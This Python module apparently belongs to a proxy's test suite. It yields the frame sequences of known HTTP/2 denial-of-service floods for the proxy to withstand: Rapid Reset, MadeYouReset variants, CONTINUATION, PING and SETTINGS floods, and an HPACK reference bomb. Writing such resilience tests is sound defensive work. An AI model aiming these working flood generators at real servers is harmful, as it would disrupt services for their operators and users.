"""HTTP/2 floods as endless byte generators, one function per attack (threats H6 to H14).

Each yields pieces to send after preface and settings; the sender stops when the
proxy ends the connection or the budget is spent.
"""
from typing import Iterator

from tests.support import h2_frames as h2


def _open(stream: int, path: str = "/calm", end: bool = True, extra: list | None = None) -> bytes:
    return h2.headers(stream, h2.request_block(path, extra=extra), end_stream=end)


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: open and cancel."""
    for stream in range(1, 200_001, 2):
        yield _open(stream) + h2.rst_stream(stream)


def made_you_reset_window_zero() -> Iterator[bytes]:
    """CVE-2025-8671: a WINDOW_UPDATE of 0 makes the server reset the stream."""
    for stream in range(1, 200_001, 2):
        yield _open(stream, end=False) + h2.window_update(stream, 0)


def made_you_reset_overflow() -> Iterator[bytes]:
    for stream in range(1, 200_001, 2):
        yield _open(stream, end=False) + h2.window_update(stream, 0x7FFFFFFF)


def made_you_reset_data_after_end() -> Iterator[bytes]:
    for stream in range(1, 200_001, 2):
        yield _open(stream) + h2.data(stream, b"x")


def made_you_reset_bad_length() -> Iterator[bytes]:
    for stream in range(1, 200_001, 2):
        yield _open(stream, end=False, extra=[("content-length", "1")]) + h2.data(stream, b"xx")


def continuation() -> Iterator[bytes]:
    """A header block that never ends, with data."""
    yield h2.headers(1, h2.request_block(), end_headers=False)
    while True:
        yield h2.continuation(1, h2.header_block([("x", "y" * 100)]))


def continuation_empty() -> Iterator[bytes]:
    yield h2.headers(1, h2.request_block(), end_headers=False)
    while True:
        yield h2.continuation(1, b"") * 100


def ping() -> Iterator[bytes]:
    while True:
        yield h2.ping() * 100


def settings() -> Iterator[bytes]:
    while True:
        yield h2.settings({4: 65535}) * 100


def settings_empty() -> Iterator[bytes]:
    while True:
        yield h2.settings() * 100


def priority() -> Iterator[bytes]:
    yield _open(1, end=False)
    while True:
        yield h2.priority(1, 3) * 100


def window_updates() -> Iterator[bytes]:
    yield _open(1, end=False)
    while True:
        yield h2.window_update(1, 1) * 100


def empty_data() -> Iterator[bytes]:
    yield _open(1, end=False)
    while True:
        yield h2.data(1) * 100


def empty_data_padded() -> Iterator[bytes]:
    yield _open(1, end=False)
    while True:
        yield h2.frame(h2.DATA, h2.PADDED, 1, b"\x05" + bytes(5)) * 100


def unknown_frames() -> Iterator[bytes]:
    while True:
        yield h2.frame(0xEE, 0, 0, b"x" * 10) * 100


def hpack_bomb() -> Iterator[bytes]:
    """One 4 KB entry in the table, then thousands of one-byte references to it."""
    big = h2.literal(b"x-bomb", b"b" * 3900, kind=0x40)
    for stream in range(1, 20_001, 2):
        block = h2.request_block() + (big if stream == 1 else b"") + b"\xbe" * 12_000
        yield h2.headers(stream, block)


def cookie_crumbs() -> Iterator[bytes]:
    for stream in range(1, 20_001, 2):
        yield h2.headers(stream, h2.request_block() + h2.literal(b"cookie", b"") * 1500)


def headers_on_closed() -> Iterator[bytes]:
    yield _open(1)
    while True:
        yield _open(1) + h2.rst_stream(1)


FLOODS = [rapid_reset, made_you_reset_window_zero, made_you_reset_overflow, made_you_reset_data_after_end, made_you_reset_bad_length,
          continuation, continuation_empty, ping, settings, settings_empty, priority, window_updates, empty_data, empty_data_padded, unknown_frames,
          hpack_bomb, cookie_crumbs, headers_on_closed]
